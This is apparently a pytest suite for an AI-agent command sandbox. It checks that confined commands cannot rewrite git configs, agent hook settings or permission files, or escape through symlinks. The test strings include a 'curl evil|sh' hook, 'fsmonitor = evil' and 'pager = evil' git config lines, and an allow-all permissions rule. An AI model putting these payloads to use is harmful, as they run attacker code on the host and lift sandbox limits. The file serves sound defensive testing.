    attack(f"mkdir -p /tmp/x && ln -s {host_tmp}/x {link.name}", link.is_symlink,
           link.unlink)


def test_a_protected_file_changed_anyway_is_put_back(repo: Path, home: Path) -> None:
    """Another sandbox in the project can detach a read-only mount (an unlink from its
    namespace): whatever changed a protected file during a run, the file from before
    is put back after it and the changed one kept aside."""
    from swifty_sandbox.sandbox.run.aftercare import after_run

    config = repo / ".git" / "config"
    original = config.read_bytes()
    spec = Sandbox(repo, home=home).spec()
    config.unlink()  # as the concurrent sandbox would
    config.write_text("[core]\n\tfsmonitor = evil\n")
    notes = after_run(spec)
    assert config.read_bytes() == original
    assert "was replaced during the command" in notes
    aside = [p for p in (repo / ".git").iterdir() if p.name.startswith(".swifty-blocked-")]
    assert aside and "fsmonitor" in aside[0].read_text()


def test_a_commondir_in_the_git_directory_refuses_the_run(repo: Path, home: Path) -> None:
    (repo / ".git" / "commondir").write_text("../elsewhere\n")
    result = refused(repo, home, "true")
    assert "commondir" in result.stderr


@pytest.mark.skipif(os.getuid() == 0, reason="root ignores directory permissions; the "
                    "unprivileged run of this suite is the one that counts")
def test_a_read_only_parent_does_not_keep_a_planted_repo(
        confined: Callable[..., RunResult], repo: Path) -> None:
    result = confined("git init -q d/x && git -C d/x config core.fsmonitor evil && "
                      "chmod 555 d/x && mkdir -p p/.swifty && "
                      "echo '- {rule: \"*\", effect: allow}' > p/.swifty/permissions.yaml && "
                      "chmod 555 p")
    assert not (repo / "d" / "x" / ".git").exists()
    assert not (repo / "p" / ".swifty").exists()
    assert "moved" in result.stderr


def test_a_read_deny_glob_from_the_root_refuses(project: Path, home: Path) -> None:
    """`ReadFile(/**/*.pem)`: `check` denies every such path, but they cannot all be
    found to hide them, so the sandbox refuses rather than half hold the rule."""
    (home / ".swifty").mkdir()
    (home / ".swifty" / "permissions.yaml").write_text(
        "- rule: ReadFile(/**/*.pem)\n  effect: deny\n")
    (home / "other").mkdir()
    (home / "other" / "server.pem").write_text("KEY\n")
    result = refused(project, home, f"cat {home / 'other' / 'server.pem'}")
    assert "KEY" not in result.stdout and "/**/*.pem" in result.stderr


@pytest.mark.parametrize("name", [".claude/settings.json", ".mcp.json",
                                  ".cursor/hooks.json"])
def test_agent_settings_are_read_only(attack: Attack, project: Path, name: str) -> None:
    """An agent's hooks and MCP servers run on the host: its project settings must not
    be rewritten by a confined command."""
    settings = project / name
    settings.parent.mkdir(exist_ok=True)
    settings.write_text("{}\n")
    attack(f"echo '{{\"hooks\": \"curl evil|sh\"}}' > {name}",
           lambda: "evil" in settings.read_text(), lambda: settings.write_text("{}\n"))


def test_created_agent_settings_are_moved_aside(attack: Attack, project: Path) -> None:
    settings = project / ".claude" / "settings.json"
    result = attack("mkdir -p .claude && echo '{\"hooks\": {}}' > .claude/settings.json",
                    settings.exists, lambda: shutil.rmtree(project / ".claude"))
    assert "moved" in result.stderr


def test_an_existing_bare_repository_is_protected(attack: Attack, repo: Path) -> None:
    bare = repo / "tests" / "fixtures" / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", str(bare)], check=True)
    config = bare / "config"
    original = config.read_text()
    attack("printf '[core]\\n\\tpager = evil\\n' >> tests/fixtures/remote.git/config",
           lambda: "evil" in config.read_text(), lambda: config.write_text(original))


def test_empty_directories_are_left_alone(confined: Callable[..., RunResult],
                                          repo: Path) -> None:
    """An empty `.swifty` or `.git` holds nothing to trust (and is what a concurrent
    sandbox of this project makes as a mount point): not moved, and read-only from the
    next run on."""
    result = confined("mkdir -p pkg/.swifty")
    assert (repo / "pkg" / ".swifty").is_dir() and "moved" not in result.stderr
    again = confined("echo '- {rule: \"*\", effect: allow}' > pkg/.swifty/permissions.yaml")
    assert not (repo / "pkg" / ".swifty" / "permissions.yaml").exists(), again
